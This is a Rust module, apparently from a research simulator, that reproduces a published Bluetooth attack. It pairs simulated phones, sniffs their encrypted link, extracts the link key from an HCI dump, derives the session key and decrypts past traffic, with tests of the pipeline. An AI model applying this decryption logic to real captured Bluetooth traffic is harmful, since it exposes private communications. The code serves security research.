//! Traffic decryption with an extracted link key — the §IV consequence the
//! paper states but does not demonstrate: "A would be able to decrypt not
//! only the future, but also the past communications of M captured by
//! air-sniffers using the key."
//!
//! Pipeline:
//!
//! 1. `M` and `C` run an *encrypted* profile session while a passive air
//!    sniffer records everything (cleartext LMP handshakes + AES-CCM ACL
//!    ciphertext),
//! 2. the attacker extracts the `C`–`M` link key via the Fig 5 procedure
//!    (reused from [`crate::link_key_extraction`]'s machinery — here we
//!    read it from `C`'s dump directly),
//! 3. offline, the attacker replays the key schedule: find the sniffed
//!    `LMP_au_rand`, recompute `h4`/`h5` to get the ACO, derive the session
//!    encryption key with `h3`, rebuild each frame's CCM nonce from the
//!    frame order, and decrypt.
//!
//! Everything the attacker uses in step 3 is public (sniffed) except the
//! link key — which is the point.

use blap_crypto::ccm::{self, Ccm, OpenBatch, SealedFrame};
use blap_crypto::ssp;
use blap_obs::prof;
use blap_sim::{profiles, SniffedFrame, World};
use blap_types::{BdAddr, Duration, LinkKey, ServiceUuid};

/// ACL connection handles the simulation allocates; the decrypt engine
/// brute-forces this space (the handle is not sniffable at the layer the
/// capture models — a real attacker reads it from the baseband header).
const HANDLE_SPACE: u16 = 8;

use crate::addrs;
use crate::extract;

/// Configuration of an eavesdropping run.
#[derive(Clone, Debug)]
pub struct EavesdropScenario {
    /// World seed.
    pub seed: u64,
    /// The secret payloads `C` sends to `M` over the encrypted link.
    pub secrets: Vec<Vec<u8>>,
}

impl EavesdropScenario {
    /// A scenario with two representative secret payloads.
    pub fn new(seed: u64) -> Self {
        EavesdropScenario {
            seed,
            secrets: vec![
                b"PBAP: +82-10-1234-5678 (CEO)".to_vec(),
                b"MAP: 'wire the funds monday'".to_vec(),
            ],
        }
    }

    /// Runs the capture + extraction + decryption pipeline.
    pub fn run(&self) -> EavesdropReport {
        let m_addr: BdAddr = addrs::M.parse().expect("valid M address");
        let c_addr: BdAddr = addrs::C.parse().expect("valid C address");

        let mut world = World::new(self.seed);
        let m = world.add_device(profiles::lg_velvet().victim_phone(addrs::M));
        let c = world.add_device(profiles::galaxy_s8().soft_target(addrs::C));

        // Bond, then run an encrypted profile session carrying secrets.
        world.device_mut(c).host.pair_with(m_addr);
        world.run_for(Duration::from_secs(5));
        world.device_mut(c).host.disconnect(m_addr);
        world.run_for(Duration::from_secs(2));
        world
            .device_mut(c)
            .host
            .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
        world.run_for(Duration::from_secs(5));
        for secret in &self.secrets {
            world.device_mut(c).host.send_data(m_addr, secret.clone());
            world.run_for(Duration::from_millis(100));
        }
        world.run_for(Duration::from_secs(1));
        let _ = m;

        // The attacker's inputs: the sniffer capture and C's HCI dump.
        let frames: Vec<SniffedFrame> = world.sniffed_frames().to_vec();
        let stolen_key = extract::from_snoop_log(world.device(c), m_addr);

        let mut report = EavesdropReport {
            captured_encrypted_frames: frames
                .iter()
                .filter(|f| {
                    matches!(
                        f,
                        SniffedFrame::Acl {
                            encrypted: true,
                            ..
                        }
                    )
                })
                .count(),
            ciphertext_contains_secrets: ciphertexts_contain(&frames, &self.secrets),
            stolen_key,
            decrypted_secrets: Vec::new(),
        };
        let Some(key) = stolen_key else {
            return report;
        };

        report.decrypted_secrets = decrypt_capture(&frames, key, c_addr, m_addr)
            .into_iter()
            .filter(|p| self.secrets.contains(p))
            .collect();
        report
    }
}

/// True when any encrypted frame carries a secret in the clear (must be
/// false — otherwise "encryption" did nothing).
fn ciphertexts_contain(frames: &[SniffedFrame], secrets: &[Vec<u8>]) -> bool {
    frames.iter().any(|f| match f {
        SniffedFrame::Acl {
            data,
            encrypted: true,
            ..
        } => secrets
            .iter()
            .any(|s| !s.is_empty() && data.windows(s.len()).any(|w| w == s.as_slice())),
        _ => false,
    })
}

/// The `LMP_au_rand` challenge sniffed from the capture, if any — without
/// it there is no ACO and nothing downstream can derive the session key.
fn find_au_rand(frames: &[SniffedFrame]) -> Option<[u8; 16]> {
    frames.iter().find_map(|f| match f {
        SniffedFrame::Lmp {
            au_rand: Some(r), ..
        } => Some(*r),
        _ => None,
    })
}

/// Replays the session-key schedule from the stolen link key and the
/// sniffed challenge: recompute the ACO via the secure authentication
/// response, then derive the encryption key with `h3` (central first,
/// like the controllers do).
fn session_key(
    stolen_key: &LinkKey,
    au_rand: &[u8; 16],
    verifier: BdAddr,
    prover: BdAddr,
) -> [u8; 16] {
    let zero = [0u8; 16];
    let (_sres, aco) =
        ssp::secure_authentication_response(stolen_key, verifier, prover, au_rand, &zero);
    let mut aco_ext = [0u8; 8];
    aco_ext.copy_from_slice(&aco);
    ssp::h3(stolen_key, verifier, prover, &aco_ext)
}

/// The nonce and ciphertext of every encrypted ACL frame, in capture
/// order — the inputs the decrypt engine brute-forces handles over.
fn encrypted_acl_frames(
    frames: &[SniffedFrame],
    central: BdAddr,
) -> Vec<([u8; ccm::NONCE_LEN], &[u8])> {
    frames
        .iter()
        .filter_map(|f| match f {
            SniffedFrame::Acl {
                data,
                encrypted: true,
                packet_counter,
                ..
            } => Some((ccm::acl_nonce(*packet_counter, central), &data[..])),
            _ => None,
        })
        .collect()
}

/// The offline decryption step: exactly what an attacker with the capture
/// and the stolen link key can compute.
///
/// `verifier`/`prover` are the authentication roles as sniffed (`C`
/// initiated the profile connection, so `C` is the verifier); the central
/// of the link is also `C` here since it paged.
///
/// The ACL handle is not in the capture, so the engine brute-forces it
/// once per link, not once per frame:
///
/// 1. the first frame that opens under some handle, trying frames in
///    capture order and handles ascending, fixes the link's handle;
/// 2. the whole capture then flows through [`Ccm::open_many_into`], which
///    runs [`ccm::FRAME_LANES`] frames' CTR blocks and CBC-MAC chains in
///    lockstep into one reused arena ([`OpenBatch`]);
/// 3. a frame that fails under that handle (another link interleaved into
///    the capture, or garbage) is retried under each handle in ascending
///    order, so the result equals a per-frame, per-handle search.
pub fn decrypt_capture(
    frames: &[SniffedFrame],
    stolen_key: LinkKey,
    verifier: BdAddr,
    prover: BdAddr,
) -> Vec<Vec<u8>> {
    let _prof = prof::scope("eavesdrop.decrypt");
    let Some(au_rand) = find_au_rand(frames) else {
        return Vec::new();
    };
    let ccm = Ccm::new(&session_key(&stolen_key, &au_rand, verifier, prover));
    let encrypted = encrypted_acl_frames(frames, verifier);

    // `scratch` takes the probe's plaintexts here and the fallback's
    // below: one buffer, allocation-free once warm.
    let handle_aads: [[u8; 2]; HANDLE_SPACE as usize] =
        core::array::from_fn(|i| (i as u16 + 1).to_le_bytes());
    let mut scratch = Vec::new();
    let open_any = |nonce: &[u8; ccm::NONCE_LEN], data: &[u8], scratch: &mut Vec<u8>| {
        handle_aads
            .iter()
            .find(|aad| ccm.open_into(nonce, &aad[..], data, scratch).is_ok())
    };
    let Some(link_aad) = encrypted
        .iter()
        .find_map(|(nonce, data)| open_any(nonce, data, &mut scratch))
    else {
        // No frame authenticates under any handle: wrong key or foreign
        // capture.
        return Vec::new();
    };

    let sealed: Vec<SealedFrame<'_>> = encrypted
        .iter()
        .map(|(nonce, data)| SealedFrame {
            nonce: *nonce,
            aad: link_aad,
            ciphertext_and_tag: data,
        })
        .collect();
    let mut batch = OpenBatch::new();
    ccm.open_many_into(&sealed, &mut batch);

    let mut plaintexts = Vec::new();
    for ((nonce, data), verdict) in encrypted.iter().zip(batch.iter()) {
        match verdict {
            Ok(plain) => plaintexts.push(plain.to_vec()),
            Err(_) => {
                if open_any(nonce, data, &mut scratch).is_some() {
                    plaintexts.push(scratch.clone());
                }
            }
        }
    }
    plaintexts
}

/// Outcome of an eavesdropping run.
#[derive(Clone, Debug)]
pub struct EavesdropReport {
    /// Encrypted ACL frames the sniffer captured.
    pub captured_encrypted_frames: usize,
    /// Whether any secret appeared in the ciphertext (encryption sanity).
    pub ciphertext_contains_secrets: bool,
    /// The link key pulled from `C`'s dump.
    pub stolen_key: Option<LinkKey>,
    /// Secrets recovered by offline decryption.
    pub decrypted_secrets: Vec<Vec<u8>>,
}

impl EavesdropReport {
    /// The full-attack verdict: ciphertext alone leaked nothing, but the
    /// stolen key decrypted every secret.
    pub fn succeeded(&self, expected_secrets: usize) -> bool {
        self.stolen_key.is_some()
            && !self.ciphertext_contains_secrets
            && self.decrypted_secrets.len() == expected_secrets
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The scalar reference engine: every frame, every handle attempt, one
    /// AES block at a time. [`decrypt_capture`] must return exactly its
    /// plaintexts, in the same order.
    fn decrypt_capture_scalar(
        frames: &[SniffedFrame],
        stolen_key: LinkKey,
        verifier: BdAddr,
        prover: BdAddr,
    ) -> Vec<Vec<u8>> {
        let Some(au_rand) = find_au_rand(frames) else {
            return Vec::new();
        };
        let ccm = Ccm::new(&session_key(&stolen_key, &au_rand, verifier, prover));
        let mut plaintexts = Vec::new();
        for (nonce, data) in encrypted_acl_frames(frames, verifier) {
            for handle in 1..=HANDLE_SPACE {
                if let Ok(plain) = ccm.open(&nonce, &handle.to_le_bytes(), data) {
                    plaintexts.push(plain);
                    break;
                }
            }
        }
        plaintexts
    }

    #[test]
    fn encrypted_capture_hides_secrets_without_the_key() {
        let scenario = EavesdropScenario::new(51);
        let report = scenario.run();
        assert!(report.captured_encrypted_frames > 0, "{report:?}");
        assert!(
            !report.ciphertext_contains_secrets,
            "link encryption must hide payloads from the sniffer"
        );
    }

    #[test]
    fn stolen_key_decrypts_past_traffic() {
        let scenario = EavesdropScenario::new(52);
        let report = scenario.run();
        assert!(report.stolen_key.is_some());
        assert!(
            report.succeeded(scenario.secrets.len()),
            "all secrets must decrypt: {report:?}"
        );
    }

    #[test]
    fn wrong_key_decrypts_nothing() {
        let scenario = EavesdropScenario::new(53);
        let m_addr: BdAddr = addrs::M.parse().expect("valid address");
        let c_addr: BdAddr = addrs::C.parse().expect("valid address");
        // Re-run the capture, then attempt decryption with a wrong key.
        let mut world = World::new(scenario.seed);
        let _m = world.add_device(profiles::lg_velvet().victim_phone(addrs::M));
        let c = world.add_device(profiles::galaxy_s8().soft_target(addrs::C));
        world.device_mut(c).host.pair_with(m_addr);
        world.run_for(Duration::from_secs(5));
        world.device_mut(c).host.disconnect(m_addr);
        world.run_for(Duration::from_secs(2));
        world
            .device_mut(c)
            .host
            .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
        world.run_for(Duration::from_secs(5));
        world
            .device_mut(c)
            .host
            .send_data(m_addr, b"top secret".to_vec());
        world.run_for(Duration::from_secs(1));

        let frames = world.sniffed_frames().to_vec();
        let wrong: LinkKey = "00000000000000000000000000000000".parse().expect("valid");
        let plaintexts = decrypt_capture(&frames, wrong, c_addr, m_addr);
        assert!(
            plaintexts.is_empty(),
            "CCM tags must reject a wrong key: {plaintexts:?}"
        );
        let scalar = decrypt_capture_scalar(&frames, wrong, c_addr, m_addr);
        assert!(
            scalar.is_empty(),
            "the scalar reference must reject too: {scalar:?}"
        );
    }

    /// A capture plus the extracted key and the link's addresses.
    fn capture(seed: u64) -> (Vec<SniffedFrame>, LinkKey, BdAddr, BdAddr) {
        let scenario = EavesdropScenario::new(seed);
        let m_addr: BdAddr = addrs::M.parse().expect("valid address");
        let c_addr: BdAddr = addrs::C.parse().expect("valid address");
        let mut world = World::new(scenario.seed);
        let _m = world.add_device(profiles::lg_velvet().victim_phone(addrs::M));
        let c = world.add_device(profiles::galaxy_s8().soft_target(addrs::C));
        world.device_mut(c).host.pair_with(m_addr);
        world.run_for(Duration::from_secs(5));
        world.device_mut(c).host.disconnect(m_addr);
        world.run_for(Duration::from_secs(2));
        world
            .device_mut(c)
            .host
            .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
        world.run_for(Duration::from_secs(5));
        for secret in &scenario.secrets {
            world.device_mut(c).host.send_data(m_addr, secret.clone());
            world.run_for(Duration::from_millis(100));
        }
        world.run_for(Duration::from_secs(1));
        let frames = world.sniffed_frames().to_vec();
        let key = extract::from_snoop_log(world.device(c), m_addr).expect("key extracted");
        (frames, key, c_addr, m_addr)
    }

    #[test]
    fn decrypt_matches_scalar_reference() {
        let (frames, key, c_addr, m_addr) = capture(54);
        let scalar = decrypt_capture_scalar(&frames, key, c_addr, m_addr);
        let engine = decrypt_capture(&frames, key, c_addr, m_addr);
        assert!(!scalar.is_empty(), "fixture must decrypt something");
        assert_eq!(scalar, engine, "the engine must be byte-identical");
    }

    /// A capture shaped like the `eavesdrop --frames` sweep, but with two
    /// links: ACL frames sealed under handles 1 and 3, interleaved, behind
    /// a first frame whose tag has one bit flipped. The handle probe must
    /// skip the bad frame, and every frame of the other handle must go
    /// through the per-frame fallback in the reference's order.
    #[test]
    fn foreign_handle_frames_decrypt_as_the_reference_does() {
        let c_addr: BdAddr = addrs::C.parse().expect("valid address");
        let m_addr: BdAddr = addrs::M.parse().expect("valid address");
        let key: LinkKey = "c4f16e949f04ee9c0fd6b1023389c324".parse().expect("valid");
        let au_rand = [0x5Au8; 16];
        let session = Ccm::new(&session_key(&key, &au_rand, c_addr, m_addr));
        let mut frames = vec![SniffedFrame::Lmp {
            time: blap_types::Instant::EPOCH,
            from: c_addr,
            to: m_addr,
            name: "LMP_au_rand",
            au_rand: Some(au_rand),
        }];
        let count = 2 * ccm::FRAME_LANES as u64 + 3;
        for i in 0..count {
            let handle: u16 = if i % 2 == 1 { 1 } else { 3 };
            let payload: Vec<u8> = (0..20 + (i as usize * 7) % 41)
                .map(|b| (b as u8).wrapping_mul(31) ^ i as u8)
                .collect();
            let nonce = ccm::acl_nonce(i, c_addr);
            let mut data = session
                .seal(&nonce, &handle.to_le_bytes(), &payload)
                .expect("frame fits CCM length field");
            if i == 0 {
                *data.last_mut().expect("tag present") ^= 0x01;
            }
            frames.push(SniffedFrame::Acl {
                time: blap_types::Instant::from_micros(1 + i),
                from: c_addr,
                to: m_addr,
                data: data.into(),
                encrypted: true,
                packet_counter: i,
            });
        }
        let reference = decrypt_capture_scalar(&frames, key, c_addr, m_addr);
        assert_eq!(
            reference.len() as u64,
            count - 1,
            "every frame but the tampered one decrypts"
        );
        let engine = decrypt_capture(&frames, key, c_addr, m_addr);
        assert_eq!(engine, reference, "same plaintexts in the same order");
    }
}
